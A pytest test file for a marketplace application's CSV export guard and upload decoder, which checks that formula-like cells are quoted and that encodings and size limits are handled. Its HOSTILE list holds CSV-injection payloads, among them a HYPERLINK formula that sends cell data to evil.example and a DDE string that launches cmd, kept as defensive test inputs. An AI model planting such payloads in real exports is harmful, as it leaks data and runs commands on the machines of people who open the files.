"""One CSV writer for every export, with the formula guard, and one decoder of uploaded CSV
files (marketplace/core/csvfiles.py)."""

import csv
import io
import pathlib
import re

import pytest

from marketplace.core import csvfiles
from marketplace.reports import controllers as report_exports

ROOT = pathlib.Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.unit
@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_quoted(text):
    assert csvfiles.safe_cell(text) == "'" + text


@pytest.mark.unit
def test_numbers_and_plain_text_are_left_alone():
    for value in ("-12.50", "3", "朝阳区", "", "a=b", 7, -3, None):
        assert csvfiles.safe_cell(value) == value


@pytest.mark.unit
def test_no_export_writes_csv_around_the_one_writer():
    """Every csv.writer of the application is the one in marketplace/core/csvfiles.py."""
    offenders = []
    for package in ("marketplace", "providers", "catalog", "evaluation"):
        for path in (ROOT / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text) and path.name != "csvfiles.py":
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.mark.unit
def test_the_search_misses_export_carries_no_formula():
    """Search terms are typed by anonymous visitors and reach the operators' reports."""
    body = report_exports.to_csv(
        {"headers": ["区", "搜索词", "次数"], "rows": [["朝阳区", text, 3] for text in HOSTILE]}
    )
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [row[2] for row in rows[1:]] == ["3"] * len(HOSTILE)


@pytest.mark.unit
@pytest.mark.parametrize(
    "content, text",
    [
        ("姓名,电话\n".encode(), "姓名,电话\n"),
        (b"\xef\xbb\xbf" + "姓名,电话\n".encode(), "姓名,电话\n"),
        ("姓名,电话\n".encode("gb18030"), "姓名,电话\n"),
    ],
)
def test_uploads_in_utf8_with_or_without_a_bom_and_gb18030_are_read(content, text):
    assert csvfiles.decode_upload(content, max_bytes=1024) == text


@pytest.mark.unit
def test_uploads_too_large_or_in_another_encoding_are_refused():
    with pytest.raises(csvfiles.UploadError) as large:
        csvfiles.decode_upload(b"x" * (2 * 1024 * 1024 + 1), max_bytes=2 * 1024 * 1024)
    assert large.value.code == "too_large" and large.value.params == {"max_mb": 2}
    for content in ("José".encode("latin-1") + b"\xff\xfe", "姓名".encode("utf-16")):
        with pytest.raises(csvfiles.UploadError) as other:
            csvfiles.decode_upload(content, max_bytes=1024)
        assert other.value.code == "encoding"
    assert csvfiles.decode_upload("姓名".encode("utf-16"), max_bytes=1024, utf16=True) == "姓名"


@pytest.mark.unit
def test_roster_and_evaluator_uploads_share_the_decoder(monkeypatch):
    from evaluation.evaluators import batches
    from marketplace.core.federation.roster import parsing

    monkeypatch.setattr(parsing, "MAX_BYTES", 10)
    monkeypatch.setattr(batches, "MAX_BYTES", 10)
    with pytest.raises(parsing.RosterRejected) as refused_roster:
        parsing.decode(b"name,phone,id_number,node,groups\n")
    assert refused_roster.value.errors[0].code == "too_large"
    with pytest.raises(batches.BatchRejected) as refused_batch:
        batches.decode_csv(b"provider_id,visit_date,method,score\n")
    assert refused_batch.value.row_errors[0].code == "too_large"
    assert "10 bytes" not in refused_batch.value.detail and "MB" in refused_batch.value.detail
